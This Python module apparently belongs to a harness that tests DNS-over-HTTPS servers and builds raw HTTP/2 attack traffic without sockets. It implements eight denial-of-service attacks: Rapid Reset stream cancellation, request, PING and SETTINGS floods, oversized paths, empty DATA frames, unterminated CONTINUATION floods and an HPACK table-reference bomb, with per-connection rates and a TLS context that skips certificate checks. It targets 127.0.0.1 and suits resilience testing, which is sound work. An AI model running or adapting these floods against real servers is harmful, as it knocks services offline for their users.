"""HTTP/2 frames of an attacking client; without sockets.

Path: attackers.py, run.py -> here -> hsdns/http2.py.
Rule 1: header fields are literals without indexing, so that a block does not depend on those before it.
"""

from __future__ import annotations

import base64
import ssl
from collections.abc import Callable
from typing import Final, NamedTuple

from hsdns.http2 import (
    CONTINUATION,
    DATA,
    DEFAULT_WINDOW,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW,
    MAX_FRAME_LEN,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    field,
    frame,
)

_LARGEST_WINDOW = (1 << 31) - 1
_CANCEL = 8
LONG_PATH: Final = 60_000  # octets
_ENTRY: Final = 4_000  # octets: nearly all of the table's
_NEWEST: Final = 0x80 | 62  # index of the table
_TIMES: Final = 15_000


def opening() -> bytes:
    """The first octets of a connection: the client accepts any amount of replies."""
    window = INITIAL_WINDOW.to_bytes(2, "big") + _LARGEST_WINDOW.to_bytes(4, "big")
    more = (_LARGEST_WINDOW - DEFAULT_WINDOW).to_bytes(4, "big")
    return PREFACE + frame(SETTINGS, 0, 0, window) + frame(WINDOW_UPDATE, 0, 0, more)


def client_context(protocol: str) -> ssl.SSLContext:
    """The TLS context of a client that takes any certificate; `protocol` is that of ALPN."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context


def header_block(path: str, *, is_post: bool = False) -> bytes:
    """Write the fields of a request."""
    method = "POST" if is_post else "GET"
    given = (":method", method), (":scheme", "https"), (":authority", "127.0.0.1"), (":path", path)
    return b"".join(field(*each) for each in given)


def request(stream: int, block: bytes, *, ends: bool = True) -> bytes:
    """Write a request in as many frames as it needs."""
    pieces = [block[at : at + MAX_FRAME_LEN] for at in range(0, len(block), MAX_FRAME_LEN)]
    out = []
    for number, piece in enumerate(pieces):
        last = END_HEADERS if number == len(pieces) - 1 else 0
        if number == 0:
            out.append(frame(HEADERS, last | (END_STREAM if ends else 0), stream, piece))
        else:
            out.append(frame(CONTINUATION, last, stream, piece))
    return b"".join(out)


class Attack(NamedTuple):
    """`units` per second on each connection; `write` makes the octets of some units, from a stream number on."""

    units: int
    write: Callable[[int, int, str], bytes]


def dns_path(query: bytes) -> str:
    """The path of a GET request for a query."""
    return "/dns-query?dns=" + base64.urlsafe_b64encode(query).rstrip(b"=").decode()


def _streams(first: int, count: int) -> range:
    return range(first, first + 2 * count, 2)


def _resets(first: int, count: int, path: str) -> bytes:
    block, code = header_block(path), _CANCEL.to_bytes(4, "big")
    return b"".join(
        request(stream, block) + frame(RST_STREAM, 0, stream, code)
        for stream in _streams(first, count)
    )


def _requests(first: int, count: int, path: str) -> bytes:
    block = header_block(path)
    return b"".join(request(stream, block) for stream in _streams(first, count))


def _frames(kind: int, payload: bytes = b"") -> Callable[[int, int, str], bytes]:
    return lambda first, count, path: frame(kind, 0, 0, payload) * count


def _paths(first: int, count: int, path: str) -> bytes:
    block = header_block(path + "&x=" + "a" * LONG_PATH)
    return b"".join(request(stream, block) for stream in _streams(first, count))


def _empty(first: int, count: int, path: str) -> bytes:
    opened = request(first, header_block(path, is_post=True), ends=False)
    return opened + frame(DATA, 0, first) * (count - 1)


def _continuations(first: int, count: int, path: str) -> bytes:
    del path
    if first == 1:  # a header block without end begins only once
        return frame(HEADERS, END_STREAM, first, header_block("/")) + _more(count - 1)
    return _more(count)


def _more(count: int) -> bytes:
    return frame(CONTINUATION, 0, 1, field("x", "y" * 64)) * count


def _bombs(first: int, count: int, path: str) -> bytes:
    """A field enters the table of the connection with its first block, and stands in each many times."""
    entry = b"\x40" + field("x", "y" * _ENTRY)[1:]  # which enters the table
    block = header_block(path) + bytes((_NEWEST,)) * _TIMES
    opened = request(first, header_block(path) + entry) if first == 1 else b""
    return opened + b"".join(request(each, block) for each in _streams(first + 2, count))


ATTACKS: Final = {
    "reset": Attack(1_000, _resets),
    "requests": Attack(1_000, _requests),
    "ping": Attack(10_000, _frames(PING, b"pressure")),
    "settings": Attack(10_000, _frames(SETTINGS)),
    "paths": Attack(50, _paths),
    "empty": Attack(10_000, _empty),
    "continuation": Attack(10_000, _continuations),
    "hpack": Attack(50, _bombs),
}
